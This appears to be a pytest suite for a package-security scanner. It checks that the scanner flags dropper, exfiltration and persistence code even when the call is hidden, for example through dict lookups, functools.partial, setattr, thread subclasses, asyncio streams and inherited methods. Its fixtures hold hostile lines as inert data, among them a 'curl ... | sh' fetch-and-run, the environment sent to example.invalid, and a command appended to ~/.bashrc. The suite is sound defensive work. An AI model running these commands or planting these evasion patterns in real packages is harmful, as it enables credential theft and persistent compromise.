"""Routes past the data-flow pass that ADR 0048 left open, closed by ADR 0051 (issue 16): a
dropper helper given its path by keyword, by default or as a method; a sink handed back by
``dict.get``, ``next(iter(...))``, ``operator.methodcaller``/``attrgetter``, stored by
``setattr`` or called through ``__call__``; ``functools.partial`` of a user function with
its arguments; a ``threading.Thread`` subclass started on import; an ``asyncio`` stream
writer; ``Path(...).expanduser()`` chains; a base class two modules away. Each case also
carries the attacker's next try where it is caught. Every payload is inert: it names
``example.invalid`` and decodes to ``print(1)``."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import wheel

HEAD = (
    "import asyncio, base64, functools, operator, os, pathlib, subprocess, sys, tempfile\n"
    "import threading, urllib.request\n"
    "CMD = 'curl -s http://example.invalid/p | sh'\n"
    "CODE = base64.b64decode('cHJpbnQoMSk=')\n"
    "ENV = repr(dict(os.environ)).encode()\n"
)
FETCH = (
    "def save(url, path):\n"
    "    data = urllib.request.urlopen(url).read()\n"
    "    open(path, 'wb').write(data)\n\n"
    "P = tempfile.mktemp()\n"
)


def _worst(found: list[PackageFinding]) -> Severity:
    return max((f.severity for f in found), default=Severity.LOW)


def _module(source: str) -> list[PackageFinding]:
    return scan_python("m/__init__.py", HEAD + source)


def _rules(found: list[PackageFinding], severity: Severity) -> set[str]:
    return {f.rule for f in found if f.severity >= severity}


# --- a dropper helper given its path other than by position -------------------------------


@pytest.mark.parametrize(
    "source",
    [
        FETCH + "save('http://example.invalid/x', path=P)\nsubprocess.Popen([P])\n",
        FETCH + "save(path=P, url='http://example.invalid/x')\nsubprocess.Popen([P])\n",
        # The next tries: the keyword unpacked from a written-out dict.
        FETCH + "save('http://example.invalid/x', **{'path': P})\nsubprocess.Popen([P])\n",
        FETCH + "save('http://example.invalid/x', **dict(path=P))\nsubprocess.Popen([P])\n",
        (
            "P = tempfile.mktemp()\n\ndef save(url, path=P):\n"
            "    data = urllib.request.urlopen(url).read()\n"
            "    open(path, 'wb').write(data)\n\n"
            "save('http://example.invalid/x')\nsubprocess.Popen([P])\n"
        ),
        # The next try: the helper as a method of a local class.
        (
            "class D:\n    def save(self, url, path):\n"
            "        data = urllib.request.urlopen(url).read()\n"
            "        open(path, 'wb').write(data)\n\n"
            "P = tempfile.mktemp()\nD().save('http://example.invalid/x', path=P)\n"
            "subprocess.Popen([P])\n"
        ),
    ],
)
def test_a_helper_given_its_path_by_keyword_or_default_drops_a_file(source: str) -> None:
    found = _module(source)
    assert "dropper" in _rules(found, Severity.CRITICAL), found


# --- sinks handed back, stored or called through ``__call__`` ------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "{'run': os.system}.get('run')(CMD)\n",
        "T = {'run': exec, 'say': print}\nT.get('run')(CODE)\n",
        "next(iter([os.system]))(CMD)\n",
        "next(iter((exec, print)))(CODE)\n",
        "exec.__call__(CODE)\n",
        "exec.__call__.__call__(CODE)\n",
        "operator.methodcaller('system', CMD)(os)\n",
        "operator.attrgetter('system')(os)(CMD)\n",
        "class O:\n    pass\n\no = O()\nsetattr(o, 'x', os.system)\no.x(CMD)\n",
        "setattr(sys, 'x', os.system)\nsys.x(CMD)\n",
        "def go(c):\n    os.system(c)\n\nfunctools.partial(go, CMD)()\n",
        "def go(c):\n    os.system(c)\n\nrun = functools.partial(go, c=CMD)\nrun()\n",
        "def go(c):\n    os.system(c)\n\nfunctools.partial(functools.partial(go, CMD))()\n",
        "T = {}\nfor k, v in [('r', os.system)]:\n    T[k] = v\nT['r'](CMD)\n",
        "for f in (print, exec):\n    f(CODE)\n",
        "functools.reduce(lambda a, f: f(a), [os.system], CMD)\n",
        # The next tries: a table built by keywords; ``filter`` in place of ``iter``.
        "T = dict(run=os.system)\nT.get('run')(CMD)\n",
        "T = dict(run=os.system)\nT['run'](CMD)\n",
        "dict(run=exec, say=print).get('run')(CODE)\n",
        "dict(run=exec)['run'](CODE)\n",
        "next(filter(None, [os.system]))(CMD)\n",
        # ``setattr`` spelt as the method it calls.
        "class O:\n    pass\n\no = O()\no.__setattr__('x', os.system)\no.x(CMD)\n",
        "class O:\n    pass\n\no = O()\nobject.__setattr__(o, 'y', os.system)\no.y(CMD)\n",
        "sys.__setattr__('x', os.system)\nsys.x(CMD)\n",
    ],
)
def test_a_sink_handed_back_or_stored_is_still_the_sink(source: str) -> None:
    found = _module(source)
    assert _worst(found) is Severity.CRITICAL, found


@pytest.mark.parametrize(
    "source",
    [
        "{'say': print, 'n': len}.get('say')('hi')\n",
        "T = {'run': exec, 'say': print}\nT.get('say')('hi')\nT.get('other', print)('x')\n",
        "next(iter([print]))('hi')\n",
        "operator.methodcaller('upper')('x')\noperator.attrgetter('sep')(os)\n",
        "class O:\n    pass\n\no = O()\nsetattr(o, 'x', print)\no.x('hi')\n",
        "def go(c):\n    print(c)\n\nfunctools.partial(go, 'hi')()\n",
        "for f in (print, len):\n    f('hi')\nfunctools.reduce(lambda a, b: a + b, [1, 2], 0)\n",
        "T = dict(say=print, n=len)\nT['say']('hi')\nT.get('n')('x')\nx = dict(a=1)['a']\n",
        "next(filter(None, [print]))('hi')\n",
        (
            "class O:\n    pass\n\no = O()\no.__setattr__('x', print)\no.x('hi')\n"
            "object.__setattr__(o, 'y', len)\n"
        ),
    ],
)
def test_harmless_values_handed_back_stay_quiet(source: str) -> None:
    found = _module(source)
    assert _worst(found) < Severity.HIGH, found


# --- a thread subclass started on import -----------------------------------------------------

SEND = "urllib.request.urlopen('http://example.invalid/c', ENV)\n"


@pytest.mark.parametrize(
    "source",
    [
        f"class T(threading.Thread):\n    def run(self):\n        {SEND}\nT().start()\n",
        (
            "from threading import Thread\n\nclass T(Thread):\n"
            "    def __init__(self):\n        super().__init__(daemon=True)\n"
            f"    def run(self):\n        {SEND}\nt = T()\nt.start()\n"
        ),
        (  # through a local base
            "class Base(threading.Thread):\n    pass\n\n"
            f"class T(Base):\n    def run(self):\n        {SEND}\nT().start()\n"
        ),
        (  # the next try: ``Thread.run`` calls the target given to the base's constructor
            "class T(threading.Thread):\n    def __init__(self):\n"
            "        super().__init__(target=self.work)\n"
            f"    def work(self):\n        {SEND}\nT().start()\n"
        ),
        (  # started from a function run on import
            f"class T(threading.Thread):\n    def run(self):\n        {SEND}\n"
            "def main():\n    T().start()\n\nmain()\n"
        ),
    ],
)
def test_a_thread_subclass_started_on_import_runs_its_run_then(source: str) -> None:
    found = _module(source)
    assert "exfiltration" in _rules(found, Severity.CRITICAL), found


def test_a_thread_subclass_that_is_never_started_stays_as_it_was() -> None:
    # One variable, not the whole environment: that is sent to an address written in the
    # code whenever it runs (ADR 0093), and this case is about whether ``run`` runs.
    send = "urllib.request.urlopen('http://example.invalid/c', os.environ['HOME'].encode())\n"
    source = f"class T(threading.Thread):\n    def run(self):\n        {send}\nT()\n"
    found = _module(source)
    assert "exfiltration" not in _rules(found, Severity.CRITICAL), found


def test_a_harmless_worker_thread_started_on_import_stays_quiet() -> None:
    source = (
        "import queue, time\n_q = queue.Queue()\n\nclass W(threading.Thread):\n"
        "    def run(self):\n        while True:\n            print(_q.get())\n"
        "            time.sleep(1)\n\nW(daemon=True).start()\n"
    )
    found = scan_python("m/__init__.py", "import threading\n" + source)
    assert _worst(found) < Severity.HIGH, found


# --- asyncio streams ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "opened",
    [
        "asyncio.open_connection('example.invalid', 443)",
        "asyncio.wait_for(asyncio.open_connection('example.invalid', 443), 5)",
    ],
)
def test_a_secret_written_to_an_asyncio_stream_is_exfiltration(opened: str) -> None:
    source = (
        f"async def go():\n    reader, writer = await {opened}\n"
        "    writer.write(ENV)\n    await writer.drain()\n\nasyncio.run(go())\n"
    )
    found = _module(source)
    assert "exfiltration" in _rules(found, Severity.CRITICAL), found


# --- path objects to start-up files ------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "pathlib.Path('~/.bashrc').expanduser().write_text(CMD)\n",
        "pathlib.Path('~').expanduser().joinpath('.bashrc').write_text(CMD)\n",
        "with pathlib.Path('~/.bashrc').expanduser().open('a') as f:\n    f.write(CMD)\n",
        "pathlib.Path('~/.bashrc').expanduser().resolve().open('a').write(CMD)\n",
    ],
)
def test_a_path_object_expanded_to_a_start_up_file_is_persistence(source: str) -> None:
    found = _module(source)
    assert "persistence" in _rules(found, Severity.CRITICAL), found


def test_a_settings_file_written_through_a_path_object_stays_quiet() -> None:
    source = (
        "import pathlib\np = pathlib.Path('~/.config/app/settings.toml').expanduser()\n"
        "p.parent.mkdir(parents=True, exist_ok=True)\n"
        "with p.open('w') as f:\n    f.write('x = 1')\n"
    )
    found = scan_python("m/__init__.py", source)
    assert _worst(found) < Severity.HIGH, found


# --- a base class two modules away -------------------------------------------------------------


def test_a_method_of_a_base_two_modules_away_is_followed() -> None:
    files: dict[str, str | bytes] = {
        "o/__init__.py": "from ._mid import Mid\n\nclass K(Mid):\n    pass\n\nK().go()\n",
        "o/_mid.py": "from ._base import Base\n\nclass Mid(Base):\n    pass\n",
        "o/_base.py": (
            "import os, urllib.request\n\nclass Base:\n    def go(self):\n"
            "        urllib.request.urlopen('http://example.invalid/x', "
            "repr(dict(os.environ)).encode())\n"
        ),
    }
    report = vet("o-1.0-py3-none-any.whl", wheel("o", "1.0", files))
    assert report.verdict is Outcome.DENY, report.to_json()


def test_an_instances_own_call_method_is_still_its_method() -> None:
    source = (
        "class K:\n    def __call__(self, c):\n        os.system(c)\n\nk = K()\nk.__call__(CMD)\n"
    )
    found = _module(source)
    assert _worst(found) is Severity.CRITICAL, found
